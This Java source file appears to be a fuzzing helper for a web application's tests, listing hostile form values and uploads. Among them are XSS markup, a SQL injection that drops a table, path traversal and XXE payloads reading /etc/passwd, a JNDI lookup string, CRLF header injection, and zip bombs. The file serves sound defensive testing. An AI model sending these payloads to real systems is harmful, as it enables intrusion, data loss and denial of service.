package org.clearinghouse1540.app;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Values and files that an attacker sends in a form, each with a name for the report. */
final class HostileValues {
  private static final Map<String, byte[]> VALUES = values();
  private static final Map<String, byte[]> FILES = files();
  private static final List<String> VALUE_NAMES = List.copyOf(VALUES.keySet());
  private static final List<String> FILE_NAMES = List.copyOf(FILES.keySet());

  /** Parts of an address in place of the number or key of a record; they are encoded already. */
  private static final List<String> PATH_PARTS =
      List.of(
          "0",
          "-1",
          "99999999999999999999",
          "1e3",
          "1.5",
          "%00",
          "a%00b",
          "%ED%A0%80",
          "%F0%9F%98",
          "%E2%80%AE",
          "%20",
          "null",
          "NaN",
          "%D9%A1",
          "x".repeat(2_000));

  /** Names of fields that no form has, or that a library may read. */
  private static final List<String> FIELD_NAMES =
      List.of(
          "class.module.classLoader",
          "_method",
          "__proto__",
          "title-1",
          "title99999999999",
          "lang",
          "%00",
          "",
          "x".repeat(5_000));

  /** Half of them are usual, so that the content is read. */
  private static final List<String> NAMES_OF_FILES =
      List.of(
          "note.docx",
          "note.txt",
          "matrix.xlsx",
          "note.pdf",
          "../../\u202Ecod.exe",
          "a\0b.txt",
          "",
          "x".repeat(5_000) + ".docx",
          "note.txt\r\nX-Injected: yes",
          "\uDBFF.txt");

  private HostileValues() {}

  static byte[] value(String name) {
    return VALUES.getOrDefault(name, new byte[0]);
  }

  static byte[] file(String name) {
    return FILES.getOrDefault(name, new byte[0]);
  }

  static String anyValue(Random random) {
    return VALUE_NAMES.get(random.nextInt(VALUE_NAMES.size()));
  }

  static String anyFile(Random random) {
    return FILE_NAMES.get(random.nextInt(FILE_NAMES.size()));
  }

  static String anyFileName(Random random) {
    return NAMES_OF_FILES.get(random.nextInt(NAMES_OF_FILES.size()));
  }

  static String anyPathPart(Random random) {
    return PATH_PARTS.get(random.nextInt(PATH_PARTS.size()));
  }

  static String anyFieldName(Random random) {
    return FIELD_NAMES.get(random.nextInt(FIELD_NAMES.size()));
  }

  private static Map<String, byte[]> values() {
    Map<String, byte[]> values = new LinkedHashMap<>();
    values.put("half a surrogate", new byte[] {'a', (byte) 0xED, (byte) 0xA0, (byte) 0x80});
    values.put("half a character", new byte[] {(byte) 0xF0, (byte) 0x9F, (byte) 0x98});
    values.put("an overlong slash", new byte[] {(byte) 0xC0, (byte) 0xAF});
    values.put("no UTF-8", new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 'a'});
    Map<String, String> texts = new LinkedHashMap<>();
    texts.put("NUL", "a\0b");
    texts.put("controls", "\u0001\u0007\b\u001B[31m\u007F\u0085\u2028");
    texts.put("bidi controls", "\u202Eabc\u2066\u200F\u202A\u2069\u061C");
    texts.put("zero width", "\u200B\u200D\uFEFF\u2060");
    texts.put("combining marks", "e" + "\u0301".repeat(500));
    texts.put("private and unassigned", "\uE000\uFFFF\uDBFF\uDFFF");
    texts.put("100,000 characters", "x".repeat(100_000));
    texts.put("100,000 words", "ab ".repeat(33_333));
    texts.put("Arabic at length", "\u0633\u0644\u0627\u0645 ".repeat(4_000));
    texts.put("10,000 lines", "\r\n".repeat(10_000));
    texts.put("a run of blanks", "a" + " ".repeat(300_000) + "b");
    texts.put("a run of marks", "a" + ".,;:".repeat(50_000) + "b");
    texts.put("many commas", "a,".repeat(10_000));
    texts.put("many semicolons", "1;".repeat(10_000));
    texts.put("brackets", "(".repeat(5_000) + "[{\"a\":".repeat(2_000));
    texts.put("spaces", " \t\u00A0\u3000");
    texts.put("nothing", "");
    texts.put("markup", "\"><script>alert(1)</script><svg/onload=alert(1)>&#0;");
    texts.put("formula", "=HYPERLINK(\"http://example.org\",\"x\")");
    texts.put("SQL", "' or 1=1; drop table kit_journal --\\");
    texts.put("path", "../../../../etc/passwd");
    texts.put("expression", "${7*7}#{7*7}${jndi:ldap://example.org/a}%{7}");
    texts.put("format", "%s%n%1000000d {0} {999999} '{");
    texts.put("regular expression", "(a+)+$((((((.*)*)*)*)*)*)*");
    texts.put("JSON", "{\"a\":[1,null,{\"b\":\"\\ud800\"}]}");
    texts.put("pointer", "/participants/-1/~2/../99999999999");
    texts.put("address", "http://[::1]:80@example.org:99999/%zz?x#y");
    texts.put("mail address", "a@b\r\nBcc: c@example.org");
    texts.put("null", "null");
    texts.put("true", "on");
    texts.put("negative", "-1");
    texts.put("huge", "99999999999999999999999999");
    texts.put("2^31", "2147483648");
    texts.put("-2^63", "-9223372036854775808");
    texts.put("exponent", "1e309");
    texts.put("small exponent", "1e-999999999");
    texts.put("large exponent", "1E+999999999");
    texts.put("fraction", "0.00000000000000000000000000001");
    texts.put("not a number", "NaN");
    texts.put("Arabic digits", "\u0661\u0662\u0663");
    texts.put("hexadecimal", "0x7fffffff");
    texts.put("year 0", "0000-01-01");
    texts.put("year 9999", "9999-12-31");
    texts.put("year 10000", "10000-01-01");
    texts.put("year -1", "-0001-01-01");
    texts.put("last day of Java", "+999999999-12-31");
    texts.put("30 February", "2024-02-30");
    texts.put("29 February 1900", "1900-02-29");
    texts.put("month 13", "2024-13-01");
    texts.put("short date", "2024-1-1");
    texts.put("date and time", "2024-01-01T24:00:00Z");
    texts.forEach((name, text) -> values.put(name, text.getBytes(StandardCharsets.UTF_8)));
    return values;
  }

  private static Map<String, byte[]> files() {
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("empty", new byte[0]);
    files.put("zip bomb as DOCX", zip("word/document.xml", 1, 300));
    files.put("zip bomb as XLSX", zip("xl/worksheets/sheet1.xml", 1, 300));
    files.put("10,000 entries", zip("word/media/image.png", 10_000, 0));
    files.put(
        "broken PDF",
        ("%PDF-1.7\n" + "1 0 obj <<".repeat(2_000)).getBytes(StandardCharsets.US_ASCII));
    files.put("broken ZIP", new byte[] {'P', 'K', 3, 4, 20, 0, 8, 8, 0, 0, -1, -1});
    files.put(
        "NUL in text", "Event: Example\0 workshop\n".repeat(50).getBytes(StandardCharsets.UTF_8));
    files.put("deep JSON", "[".repeat(50_000).getBytes(StandardCharsets.US_ASCII));
    files.put("entities", entities().getBytes(StandardCharsets.US_ASCII));
    return files;
  }

  private static String entities() {
    return "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">"
        + "<!ENTITY c SYSTEM \"file:///etc/passwd\">]><html>&b;&c;</html>";
  }

  private static byte[] zip(String entry, int entries, int megabytes) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      byte[] zeros = new byte[1 << 20];
      for (int i = 0; i < entries; i++) {
        zip.putNextEntry(new ZipEntry(entries == 1 ? entry : i + entry));
        for (int written = 0; written < megabytes; written++) {
          zip.write(zeros);
        }
      }
    } catch (IOException impossible) {
      throw new UncheckedIOException(impossible);
    }
    return out.toByteArray();
  }
}
